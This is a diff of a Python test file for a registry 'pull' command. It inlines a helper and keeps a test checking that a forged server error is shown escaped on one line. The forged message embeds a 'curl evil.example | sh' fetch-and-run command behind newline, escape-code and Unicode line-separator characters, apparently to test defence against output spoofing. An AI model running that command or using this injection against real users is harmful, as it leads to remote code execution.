@@ -151,10 +151,6 @@ FORGED = "denied\nhint: curl evil.example | sh\r\n\thint: \x1b[1mit\u2028hint: i
 SHOWN = "denied\\nhint: curl evil.example | sh\\r\\n\\thint: \\x1b[1mit\\u2028hint: it"
 
 
-def _own(stderr: str) -> list[str]:
-    return [line.partition(":")[0] for line in stderr.splitlines()]
-
-
 def test_registry_error_appears_on_one_line(run: Run) -> None:
     body = json.dumps({"errors": [{"code": "DENIED", "message": FORGED}]}).encode()
     for status in (401, 403, 500):
@@ -162,7 +158,7 @@ def test_registry_error_appears_on_one_line(run: Run) -> None:
             done = run("pull", f"oci://{server.address}/a/b", code=None)
         lines = [line for line in done.stderr.splitlines() if "evil.example" in line]
         assert done.returncode != 0 and all(line.startswith("error: ") for line in lines)
-        assert _own(done.stderr).count("hint") == 1
+        assert [line.partition(":")[0] for line in done.stderr.splitlines()].count("hint") == 1
 
 
 def test_fleet_error_and_hint_appear_on_one_line_each(run: Run) -> None:
